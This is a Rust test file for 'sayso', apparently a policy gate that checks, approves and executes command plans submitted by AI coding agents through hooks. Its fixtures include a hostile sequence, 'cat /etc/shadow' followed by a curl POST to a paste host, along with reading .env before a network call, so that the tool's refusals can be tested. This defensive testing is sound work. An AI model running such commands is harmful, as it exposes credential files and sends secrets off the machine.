//! `sayso plan`: checked without a trace, submitted, answered once, and carried out by a hook.

use crate::person::Person;
use crate::served::serve;
use serde_json::{Value, json};

fn lines(calls: &[Value]) -> String {
    calls.iter().map(|call| format!("{call}\n")).collect()
}

fn person(policy: &str, commands: &[&str]) -> Person {
    let person = Person::new();
    person.policy(policy);
    let calls: Vec<Value> =
        commands.iter().map(|command| json!({"command": command, "cwd": person.project()})).collect();
    person.file("plan.jsonl", &lines(&calls));
    person
}

#[test]
fn a_plan_that_reads_secrets_and_sends_them_is_refused_before_anything_ran() {
    let person =
        person("extends = [\"developer\"]\n", &["cargo test", "cat /etc/shadow", "curl -d x https://paste.example"]);
    let said = person.run(&["plan", "check", "plan.jsonl"]);
    assert_eq!(said.code, 4, "{}{}", said.out, said.err);
    assert!(said.out.contains("because of step 2"), "{}", said.out);
    assert!(said.out.contains("  1  allow  cargo test"), "{}", said.out);
    assert!(!person.home().join(".local/state/sayso/sayso.db").exists(), "nothing is kept");
}

#[test]
fn what_an_earlier_step_reads_makes_a_later_one_ask() {
    let policy = "default = \"allow\"\n[[rule]]\nid = \"stays\"\nask = { connect = [\"*\", \"!@loopback\"] }\nwhen = { after.read = \"@secrets\" }\n";
    let person = person(&format!("{policy}[allow]\nread = [\"@secrets\"]\n"), &["cat .env", "curl https://x.example"]);
    person.file(".env", "A=1\n");
    let said = person.run(&["plan", "check", "plan.jsonl", "--json"]);
    assert_eq!(said.code, 3, "{}{}", said.out, said.err);
    let plan: Value = serde_json::from_str(&said.out).unwrap();
    assert_eq!((&plan["verdict"], &plan["decisive"]), (&json!("ask"), &json!(2)), "{plan}");
    assert_eq!(plan["steps"][1]["reasons"][0]["code"], "stays", "{plan}");
    assert!(plan["steps"][1]["risk"]["score"].is_u64(), "{plan}");
    // The same call alone, and before the secret is read, does not.
    assert_eq!(person.run(&["check", "curl https://x.example"]).code, 0);
}

#[test]
fn what_is_no_plan_is_wrong_usage_and_says_where() {
    let person = person("default = \"ask\"\n", &[]);
    for (text, says) in [
        ("", "no steps"),
        ("{\"command\": \"ls\"}\nnonsense\n", "plan.jsonl:2:"),
        ("{\"command\": \"ls\", \"comand\": 1}\n", "comand"),
        ("{\"command\": \"ls\", \"command\": \"rm x\"}\n", "twice"),
        ("[[[[[[[[[[", "plan.jsonl:1:"),
        ("{\"command\": \"ls\"}\n{\"command\": \"ls\", \"context\": {\"session\": \"other\"}}\n", "step 2"),
    ] {
        person.file("plan.jsonl", text);
        let said = person.run(&["plan", "check", "plan.jsonl"]);
        assert_eq!(said.code, 2, "{text}: {}{}", said.out, said.err);
        assert!(said.err.contains(says), "{text}: {}", said.err);
    }
    let many = "{\"command\": \"ls\"}\n".repeat(51);
    person.file("plan.jsonl", &many);
    assert!(person.run(&["plan", "check", "plan.jsonl"]).err.contains("at most 50"));
    assert_eq!(person.run(&["plan", "check", "missing.jsonl"]).code, 2);
}

#[test]
fn one_yes_lets_a_hook_run_each_step_once_and_in_order() {
    let policy = "default = \"ask\"\n[allow]\nrun = [\"echo\"]\n[plan]\nrequire = [\"agent:claude-code\"]\n";
    let person = person(policy, &["make a TOKEN=ghp_0123456789abcdefghijklmnopqrstuvwxyz", "echo between", "make b"]);
    let hook = |command: &str| {
        let event = json!({"hook_event_name": "PreToolUse", "session_id": "s", "cwd": person.project(),
            "permission_mode": "default", "tool_name": "Bash", "tool_use_id": "t",
            "tool_input": {"command": command, "description": "a step"}})
        .to_string();
        let home = person.home();
        let said = person.run_with(&["hook", "claude-code", "--home", home.to_str().unwrap()], &event);
        let answer: Value = serde_json::from_str(&said.out).unwrap_or(Value::Null);
        let of = |key: &str| answer["hookSpecificOutput"][key].as_str().unwrap_or_default().to_owned();
        (of("permissionDecision"), of("permissionDecisionReason"))
    };
    let (verdict, why) = hook("echo between");
    assert_eq!(verdict, "ask", "{why}");
    assert!(why.contains("approved plan"), "{why}");
    let said = person.run(&["plan", "submit", "plan.jsonl", "--agent", "claude-code", "--session", "s", "--json"]);
    assert_eq!(said.code, 3, "{}{}", said.out, said.err);
    let plan: Value = serde_json::from_str(&said.out).unwrap();
    let id = plan["id"].as_str().unwrap().to_owned();
    let shown = person.run(&["approvals", "show", &id]);
    assert!(shown.out.contains("echo between") && shown.out.contains("make b"), "{}{}", shown.out, shown.err);
    assert!(!shown.out.contains("ghp_0123"), "{}", shown.out);
    assert!(person.run(&["approvals", "list"]).out.contains("plan of 3"));
    let served = serve(&person);
    let token = served.signed_in(&served.key());
    assert_eq!(served.says_yes(&token, &id).status, 200);
    let first = "make a TOKEN=ghp_0123456789abcdefghijklmnopqrstuvwxyz";
    assert_eq!(hook("make b").0, "ask", "its turn has not come");
    let (verdict, why) = hook(first);
    assert_eq!(verdict, "allow", "{why}");
    assert_eq!(hook(first).0, "ask", "once");
    assert_eq!(hook("echo between").0, "allow");
    assert_eq!(hook("make b").0, "allow");
    assert_eq!(hook("make b").0, "ask", "once");
    let shown = person.run(&["plan", "show", &id]);
    assert!(shown.out.contains("approved, 3 of 3 run"), "{}{}", shown.out, shown.err);
    assert!(person.run(&["plan", "list"]).out.contains("approved, 3 of 3 run"));
    let log = person.run(&["log", "--json"]).out;
    let steps: Vec<Value> = log
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
        .filter(|record| record["plan"]["id"] == id.as_str())
        .collect();
    let numbers: Vec<u64> = steps.iter().filter_map(|record| record["plan"]["step"].as_u64()).collect();
    assert_eq!(numbers.len(), 3, "{log}");
    assert!(steps.iter().all(|record| record["plan"]["grant"].as_str().is_some_and(|it| it.starts_with(&id))));
    let replay = person.run(&["log", "replay"]);
    assert_eq!(replay.code, 0, "{}{}", replay.out, replay.err);
    // A plan in a hook's session is none in another one.
    assert_eq!(person.run(&["plan", "submit", "plan.jsonl", "--agent", "claude-code"]).code, 2, "no session");
}

#[test]
fn why_shows_what_the_risk_is_made_of() {
    let person = person("default = \"ask\"\n", &[]);
    let said = person.run(&["why", "curl https://x.example"]);
    assert!(said.out.contains("risk: ") && said.out.contains("connects"), "{}", said.out);
    let said = person.run(&["check", "--json", "curl https://x.example"]);
    let trace: Value = serde_json::from_str(&said.out).unwrap();
    assert_eq!(trace["risk"]["points"][0]["feature"], "connects", "{trace}");
    assert_eq!(trace["risk"]["model"], "1");
}
